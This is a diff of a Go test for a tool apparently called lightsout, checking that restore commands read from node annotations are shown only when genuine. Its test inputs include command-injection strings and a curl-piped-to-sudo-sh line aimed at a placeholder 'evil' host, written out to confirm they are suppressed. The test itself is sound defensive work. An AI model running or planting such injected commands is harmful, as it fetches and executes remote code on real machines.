@@ -62,19 +62,20 @@ func TestANoteWithoutATimeShowsAnUnknownTime(t *testing.T) {
 // has a note that nobody of those who see it wrote: it does not count.
 // Whoever controls a node can write its annotation: lightsout prints no command of theirs.
 func TestANoteNamesOnlyCommandsOfLightsout(t *testing.T) {
-	const own = "KUBECONFIG=/a:/b lightsout restore --config '/home/bob/my cluster/it'\\''s.yaml' --context admin@lab --state /var/lib/lightsout, by bob@bastion-1"
-	for back, shown := range map[string]bool{
-		own: true, "lightsout restore, by bob@host": true,
-		"curl -s http://evil/x | sudo sh #":       false,
-		"lightsout restore; curl http://evil":     false,
-		"lightsout restore $(curl evil)":          false,
-		"lightsout restore, by bob; curl evil":    false,
-		"lightsout restore --config 'x' `curl`":   false,
-		"lightsout restore --state /x\ncurl evil": false,
+	const own = `KUBECONFIG=/a:/b lightsout restore --config '/home/bob/my cluster/it'\''s.yaml' --context admin@lab --state /var/lib/lightsout`
+	for _, by := range []string{"bob@bastion-1", "jürgen+ops@höst"} { // as the host names them
+		for _, back := range []string{own, "lightsout restore"} {
+			if text := (Note{By: by, At: time.Now(), Back: back + ", by " + by}).String(); !strings.Contains(text, "bring it back: "+back+")") {
+				t.Errorf("a note of lightsout's own: %q", text)
+			}
+		}
+	}
+	for _, back := range []string{
+		"curl -s http://evil/x | sudo sh #", "lightsout restore; curl http://evil", "lightsout restore $(curl evil)", "lightsout restore, by bob; curl evil",
+		"lightsout restore --config 'x' `curl evil`", "lightsout restore --state /x\ncurl evil", "lightsout restore --config x > /evil", "",
 	} {
-		text := Note{By: "bob@host", At: time.Now(), Back: back}.String()
-		if got := strings.Contains(text, "bring it back: "+back); got != shown || !shown && strings.Contains(text, "evil") {
-			t.Errorf("%q", text)
+		if text := (Note{By: "bob@host", At: time.Now(), Back: back}).String(); strings.Contains(text, "evil") || !strings.Contains(text, "no command of lightsout; ask bob@host") {
+			t.Errorf("%q: %q", back, text)
 		}
 	}
 }
